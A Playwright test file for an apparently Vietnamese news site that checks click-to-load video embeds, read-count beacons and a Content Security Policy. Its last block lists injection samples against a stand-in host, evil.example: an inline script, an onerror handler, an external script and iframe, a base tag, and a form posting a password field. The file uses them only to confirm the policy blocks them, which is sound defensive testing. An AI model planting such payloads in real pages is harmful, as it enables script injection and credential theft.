import type { Page } from 'playwright'
import { describe, expect, test } from 'vitest'
import { database } from '../../lib/database/client.ts'
import { useBrowser } from '../setup/browser.ts'
import { useDemo } from '../setup/demo.ts'
import { bodyAddress, film, testPieces } from '../setup/demo-pages.ts'

const demo = useDemo({ lines: testPieces })
const withPage = useBrowser()

/** Stands in for the film's hosts and notes what was asked of them. */
async function standInForHosts(page: Page): Promise<string[]> {
  const asked: string[] = []
  await page.context().route(/youtube|ytimg|vimeo|google/, (route) => {
    asked.push(route.request().url())
    return route.fulfill({
      contentType: 'text/html; charset=utf-8',
      body: '<!doctype html><title>Phim</title><p>Đang chiếu</p>',
    })
  })
  return asked
}

const player = `https://www.youtube-nocookie.com/embed/${film.id}?autoplay=1`
const filmPage = `https://www.youtube.com/watch?v=${film.id}`

test('a film plays where its link stood, and its host hears of the reader only then', () =>
  withPage({ width: 360 }, async ({ page, complaints }) => {
    const asked = await standInForHosts(page)
    await page.goto(demo.url(bodyAddress('video')), { waitUntil: 'networkidle' })
    const before = await page.locator('.video').boundingBox()
    expect(asked).toEqual([])

    await page.locator('.video a').click()
    const frame = page.frameLocator('.video iframe')
    await frame.getByText('Đang chiếu').waitFor()
    expect(asked).toEqual([player])
    expect(page.url()).toBe(demo.url(bodyAddress('video')))
    expect(await page.locator('.video a').count()).toBe(0)
    const iframe = page.locator('.video iframe')
    expect(await iframe.getAttribute('title')).toBe('Một ngày ở bản Hon')
    expect(await iframe.evaluate((element) => element === document.activeElement)).toBe(true)
    const after = await iframe.boundingBox()
    expect([after?.x, after?.y]).toEqual([before?.x, before?.y])
    expect(after?.width).toBe(before?.width)
    expect((after?.width ?? 0) / (after?.height ?? 1)).toBeCloseTo(16 / 9, 1)
    expect(complaints).toEqual([])
  }))

test('the keyboard starts a film too', () =>
  withPage({}, async ({ page }) => {
    await standInForHosts(page)
    await page.goto(demo.url(bodyAddress('video')))
    await page.locator('.video a').focus()
    await page.keyboard.press('Enter')
    await page.frameLocator('.video iframe').getByText('Đang chiếu').waitFor()
  }))

test('a reader who opens a film in a new tab keeps the link here', () =>
  withPage({}, async ({ page }) => {
    await standInForHosts(page)
    await page.goto(demo.url(bodyAddress('video')))
    await page.locator('.video a').click({ modifiers: ['Control'] })
    expect(await page.locator('.video a').count()).toBe(1)
    expect(await page.locator('.video iframe').count()).toBe(0)
  }))

test('without JavaScript a film is a plain link to its page', () =>
  withPage({ javaScript: false }, async ({ page }) => {
    await standInForHosts(page)
    await page.goto(demo.url(bodyAddress('video')))
    await page.locator('.video a').click()
    await page.waitForURL(filmPage)
  }))

describe('that a piece was read', () => {
  const address = bodyAddress('table')
  const id = Number(/\d+$/.exec(address)?.[0])
  const phone = 'Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/140.0 Mobile Safari/537.36'

  /** What pages say, with a clock that the test moves on and a browser that says of them what the test wants. */
  async function listen(page: Page) {
    const said: string[] = []
    await page.route('**/api/**', (route) => {
      said.push(`${route.request().method()} ${new URL(route.request().url()).pathname}`)
      // This browser says that it is a machine.
      return route.continue({ headers: { ...route.request().headers(), 'user-agent': phone } })
    })
    await page.clock.install()
    return said
  }
  /** Stands for another tab, or for a page made in advance: where nobody sits, every tab is before somebody. */
  const unseen = (page: Page, how: 'hidden' | 'prerendering') =>
    page.addInitScript((how) => {
      Object.defineProperty(document, 'visibilityState', { get: () => 'hidden', configurable: true })
      if (how === 'prerendering')
        Object.defineProperty(document, 'prerendering', { get: () => true, configurable: true })
    }, how)
  const becomesSeen = (page: Page, event: 'visibilitychange' | 'prerenderingchange') =>
    page.evaluate((name) => {
      Object.defineProperty(document, 'visibilityState', { value: 'visible', configurable: true })
      Object.defineProperty(document, 'prerendering', { value: false, configurable: true })
      document.dispatchEvent(new Event(name))
    }, event)

  test('is said once, when it has been before the reader for a moment, and is counted', () =>
    withPage({ width: 360 }, async ({ page, complaints }) => {
      const said = await listen(page)
      await page.goto(demo.url(address))
      await page.clock.runFor(2_500)
      expect(said).toEqual([])
      await page.clock.runFor(1_000)
      await expect.poll(() => said).toEqual([`POST /api/doc/${id}`])
      await becomesSeen(page, 'visibilitychange')
      await page.clock.runFor(60_000)
      expect(said).toHaveLength(1)
      const counted = async () => (await database().readingDay.findFirst({ where: { articleId: id } }))?.count
      await expect.poll(counted, { timeout: 20_000 }).toBe(1)
      expect(complaints).toEqual([])
    }))

  test.each([
    ['hidden', 'visibilitychange'],
    ['prerendering', 'prerenderingchange'],
  ] as const)(
    'is not said of a page that nobody sees (%s), but when it comes before the reader',
    (how, event) =>
      withPage({}, async ({ page }) => {
        const said = await listen(page)
        await unseen(page, how)
        await page.goto(demo.url(address))
        await page.clock.runFor(60_000)
        expect(said).toEqual([])
        await becomesSeen(page, event)
        await page.clock.runFor(3_500)
        await expect.poll(() => said).toEqual([`POST /api/doc/${id}`])
      }),
  )

  test('is not said of a list, or of a piece that is not there', () =>
    withPage({}, async ({ page }) => {
      const said = await listen(page)
      for (const path of ['/', '/chinh-tri', '/tin/khong-co-bai-nay-999999']) {
        await page.goto(demo.url(path))
        await page.clock.runFor(10_000)
      }
      expect(said).toEqual([])
    }))
})

/** What an attacker who got markup into a page would try; each sets `window.injected` if it may. */
const injections: Record<string, { html: string; directive: RegExp }> = {
  'an inline script': { html: '<script>window.injected = true</script>', directive: /^script-src/ },
  'an event handler': {
    html: '<img src="/khong-co.png" onerror="window.injected = true">',
    directive: /^script-src/,
  },
  'a script from elsewhere': {
    html: '<script src="https://evil.example/a.js"></script>',
    directive: /^script-src/,
  },
  'a frame from elsewhere': {
    html: '<iframe src="https://evil.example/"></iframe>',
    directive: /^frame-src/,
  },
  'a style attribute': { html: '<p style="position: fixed; inset: 0">Giả</p>', directive: /^style-src/ },
  'a base address': { html: '<base href="https://evil.example/">', directive: /^base-uri/ },
  'a form to elsewhere': {
    html: '<form action="https://evil.example/" class="evil"><input name="mat-khau"></form>',
    directive: /^form-action/,
  },
}

test.each(Object.entries(injections))('%s in a page is refused by its policy', (_, { html, directive }) =>
  withPage({}, async ({ page }) => {
    await page
      .context()
      .route('https://evil.example/**', (route) =>
        route.fulfill({ contentType: 'text/javascript', body: 'window.injected = true' }),
      )
    // The real page with its real headers, and something slipped into it on the way.
    await page.route(demo.url('/'), async (route) => {
      const response = await route.fetch()
      await route.fulfill({ response, body: (await response.text()).replace('</main>', `${html}</main>`) })
    })
    await page.addInitScript(() => {
      const refused: string[] = []
      Object.assign(window, { refused })
      document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
    })
    await page.goto(demo.url('/'))
    await page.evaluate(() => document.querySelector<HTMLFormElement>('.evil')?.requestSubmit())
    const refused = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused)
    await expect.poll(refused).toEqual([expect.stringMatching(directive)])
    expect(await page.evaluate(() => 'injected' in window)).toBe(false)
    expect(page.url()).toBe(demo.url('/'))
  }),
)
